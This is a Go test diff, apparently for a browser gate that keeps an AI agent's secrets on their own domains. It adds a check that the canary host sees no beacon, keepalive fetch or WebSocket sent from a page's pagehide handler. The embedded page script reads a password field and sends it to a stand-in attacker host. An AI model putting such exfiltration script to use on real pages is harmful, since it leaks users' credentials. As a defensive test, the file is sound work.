@@ -4,6 +4,7 @@ import (
 	"fmt"
 	"net/http"
 	"strings"
+	"sync"
 	"sync/atomic"
 	"testing"
 	"time"
@@ -37,18 +38,24 @@ domains = ["127.0.0.1"]
 // page can send it nowhere outside the secret's domains, even to a host
 // the scope allows: not by a submit handler that rewrites the form's
 // action, not by a submit through an image input whose formaction differs
-// from the form's action, not by its own fetch or WebSocket. The canary
-// on 127.0.0.3 (in scope, outside the secret's domains) sees nothing.
+// from the form's action, not by its own fetch or WebSocket, not by a
+// beacon, keepalive fetch or WebSocket its pagehide handler sends as the
+// agent navigates away to that host. The canary on 127.0.0.3 (in scope, outside the secret's domains) sees nothing.
 func TestSecretStaysOnItsDomains(t *testing.T) {
 	// Not parallel: t.Setenv.
 	const value = "bound-secret-9f27c1"
 	t.Setenv("BROWSERGATE_TEST_BOUND_PW", value)
 	var canaryHits, afterHits atomic.Int64
+	var seenMu sync.Mutex
+	var seen []string // what the canary got, for the failure message
 	canary, stop, err := serveOn("127.0.0.3:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		if r.URL.Path == "/after" {
 			afterHits.Add(1) // the agent's own navigation, after the page
 		} else if r.URL.Path != "/favicon.ico" {
 			canaryHits.Add(1)
+			seenMu.Lock()
+			seen = append(seen, r.Method+" "+r.URL.RequestURI())
+			seenMu.Unlock()
 		}
 		fmt.Fprint(w, "stolen")
 	}))
@@ -79,7 +86,10 @@ document.getElementById('pw').addEventListener('input', e => {
 addEventListener('pagehide', () => {
   const v = document.getElementById('pw').value;
   navigator.sendBeacon('` + steal + `?bye', v);
-  try { const s = new WebSocket('` + ws + `?bye'); s.onopen = () => s.send(v); } catch (err) {}
+  fetch('` + steal + `?bye-keepalive', {method: 'POST', body: v, keepalive: true}).catch(() => {});
+  for (let i = 0; i < 4; i++) {
+    try { const s = new WebSocket('` + ws + `?bye' + i); s.onopen = () => s.send(v); } catch (err) {}
+  }
 });
 </script>`,
 	})
@@ -105,7 +115,9 @@ addEventListener('pagehide', () => {
 		t.Errorf("the page's own requests with the secret were not reported as refused:\n%s", out)
 	}
 	if n := canaryHits.Load(); n != 0 {
-		t.Fatalf("the host outside the secret's domains got %d request(s)", n)
+		seenMu.Lock()
+		defer seenMu.Unlock()
+		t.Fatalf("the host outside the secret's domains got %d request(s): %q", n, seen)
 	}
 	if log.count("/login") == 0 {
 		t.Errorf("no submission reached the secret's own domain: the test proved nothing")
@@ -118,7 +130,9 @@ addEventListener('pagehide', () => {
 		t.Errorf("the agent's navigation to the other allowed host did not go through")
 	}
 	if n := canaryHits.Load(); n != 0 {
-		t.Fatalf("as the page was left, the host outside the secret's domains got %d request(s)", n)
+		seenMu.Lock()
+		defer seenMu.Unlock()
+		t.Fatalf("as the page was left, the host outside the secret's domains got %d request(s): %q", n, seen)
 	}
 }
 
